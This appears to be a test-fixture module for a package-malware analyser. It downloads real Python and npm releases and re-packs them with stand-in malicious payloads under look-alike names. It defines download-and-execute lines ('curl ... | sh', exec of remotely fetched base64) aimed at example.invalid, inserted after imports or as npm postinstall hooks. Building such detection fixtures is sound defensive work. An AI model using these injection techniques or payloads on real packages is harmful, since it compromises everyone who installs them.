"""Injected pairs built from real releases: a clean release downloaded through the
project's fetcher and re-packed with a harmless stand-in payload (its URLs are under
example.invalid, which never resolves). Nothing here is installed, imported or run."""

from __future__ import annotations

import io
import json
import tarfile
import time
from dataclasses import dataclass
from pathlib import Path

from package_analysis.analysis import ecosystems, fetch
from package_analysis.analysis.purl import purl_parse

MiB = 1024 * 1024

# A download-and-exec stand-in: fetches nothing (example.invalid) and is never executed.
PY_PAYLOAD = [
    "import base64 as _pm_b64, urllib.request as _pm_req",
    'exec(_pm_b64.b64decode(_pm_req.urlopen("http://example.invalid/stage2").read()))',
]
PY_SETUP_PAYLOAD = [
    "import os as _pm_os",
    '_pm_os.system("curl -s http://example.invalid/i.sh | sh")',
]
NPM_POSTINSTALL = "curl -s http://example.invalid/i.sh | sh"


@dataclass
class Injected:
    clean: Path  # the real release, as downloaded (verified)
    archive: Path  # the re-packed one
    file: str  # the member the payload went into (as the archive names it)
    line: int  # the payload's line that does the work (1-based)
    version: str


def download(purl: str, dest: Path, *, wheel: bool = False) -> Path:
    resolved = ecosystems.resolve(purl_parse(purl), deadline=time.monotonic() + 120)
    remote = next(f for f in resolved.files if f.filename.endswith(".whl") == wheel)
    dest.mkdir(parents=True, exist_ok=True)
    artifact = fetch.download(remote, dest, max_bytes=50 * MiB, deadline=time.monotonic() + 120)
    assert artifact.path is not None
    return artifact.path


def _members(path: Path) -> list[tuple[tarfile.TarInfo, bytes | None]]:
    out = []
    with tarfile.open(path, "r:gz") as tar:
        for m in tar:
            data = tar.extractfile(m).read() if m.isfile() else None  # type: ignore[union-attr]
            out.append((m, data))
    return out


def _write(path: Path, members: list[tuple[tarfile.TarInfo, bytes | None]]) -> Path:
    with tarfile.open(path, "w:gz") as tar:
        for info, data in members:
            if data is None:
                tar.addfile(info)
            else:
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
    return path


def _insert_after_imports(text: str, payload: list[str]) -> tuple[str, int]:
    """The payload inserted at module level after the first top-level import; returns the
    new text and the line of the payload's last (working) line."""
    lines = text.splitlines()
    at = next(
        (i + 1 for i, ln in enumerate(lines) if ln.startswith(("import ", "from "))), len(lines)
    )
    new = lines[:at] + payload + lines[at:]
    return "\n".join(new) + "\n", at + len(payload)


def inject_python(
    purl: str,
    work: Path,
    member_suffix: str,
    *,
    payload: list[str] = PY_PAYLOAD,
    rename: str | None = None,
) -> Injected:
    """Re-pack a real sdist with `payload` in the member ending with `member_suffix`;
    `rename` republishes it under another distribution name (a copy)."""
    clean = download(purl, work / "clean")
    members = _members(clean)
    target = next(m.name for m, d in members if d is not None and m.name.endswith(member_suffix))
    line = 0
    out = []
    version = ""
    for info, data in members:
        if data is not None and info.name == target:
            text, line = _insert_after_imports(data.decode("utf-8"), payload)
            data = text.encode()
        if data is not None and info.name.count("/") == 1 and info.name.endswith("/PKG-INFO"):
            headers = data.decode("utf-8")
            version = next(
                h.split(":", 1)[1].strip() for h in headers.splitlines() if h.startswith("Version:")
            )
            if rename:
                data = (
                    "\n".join(
                        f"Name: {rename}" if h.startswith("Name:") else h
                        for h in headers.splitlines()
                    ).encode()
                    + b"\n"
                )
        out.append((info, data))
    name = f"{rename}-{version}.tar.gz" if rename else clean.name
    archive = _write(work / "injected" / name if _mkdir(work / "injected") else work, out)
    return Injected(clean, archive, target, line, version)


def inject_postinstall(purl: str, work: Path) -> Injected:
    """Re-pack a real npm tarball with a postinstall script added to its package.json."""
    clean = download(purl, work / "clean")
    out = []
    line = 0
    for info, data in _members(clean):
        if data is not None and info.name == "package/package.json":
            doc = json.loads(data)
            doc.setdefault("scripts", {})["postinstall"] = NPM_POSTINSTALL
            text = json.dumps(doc, indent=2) + "\n"
            line = next(i for i, ln in enumerate(text.splitlines(), 1) if '"postinstall"' in ln)
            data = text.encode()
        out.append((info, data))
    _mkdir(work / "injected")
    archive = _write(work / "injected" / clean.name, out)
    return Injected(clean, archive, "package/package.json", line, "")


def _mkdir(path: Path) -> bool:
    path.mkdir(parents=True, exist_ok=True)
    return True


JS_PAYLOAD = [
    'require("child_process").exec("curl -s http://example.invalid/i.sh | sh");',
]


def inject_npm_copy(purl: str, work: Path, member: str, name: str) -> Injected:
    """A real npm tarball republished under a look-alike `name`, `JS_PAYLOAD` added at the
    top level of `member` (after its first line)."""
    clean = download(purl, work / "clean")
    out = []
    line = 0
    for info, data in _members(clean):
        if data is not None and info.name == "package/package.json":
            doc = json.loads(data)
            doc["name"] = name
            data = (json.dumps(doc, indent=2) + "\n").encode()
        elif data is not None and info.name == member:
            lines = data.decode("utf-8").splitlines()
            lines[1:1] = JS_PAYLOAD
            line = 1 + len(JS_PAYLOAD)
            data = ("\n".join(lines) + "\n").encode()
        out.append((info, data))
    _mkdir(work / "injected")
    archive = _write(work / "injected" / f"{name}.tgz", out)
    return Injected(clean, archive, member, line, "")
